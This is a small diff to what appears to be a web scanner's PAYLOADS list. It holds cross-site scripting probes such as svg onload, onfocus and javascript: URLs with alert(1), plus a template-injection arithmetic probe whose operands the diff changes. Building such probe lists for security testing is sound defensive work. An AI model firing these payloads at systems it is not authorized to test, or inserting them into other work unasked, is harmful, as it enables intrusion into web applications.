@@ -30,7 +30,7 @@ PAYLOADS = (
     "'><svg/onload=alert(1)><xq7 a='",
     "</title></textarea></script></style></pre><xq7 onclick=alert(1)>",
     "javascript:alert(1)//xq7",
-    "{{7*191}}${7*191}{%print(7*191)%}<%=7*191%>xq7",
+    "{{7777*7777}}${7777*7777}{%print(7777*7777)%}<%=7777*7777%>xq7",
     '" autofocus onfocus=alert(1) xq7="',
     "<iframe srcdoc='<script>alert(1)</script>'></iframe><xq7>",
     "<a href=javascript:alert(1) xq7>here</a>",
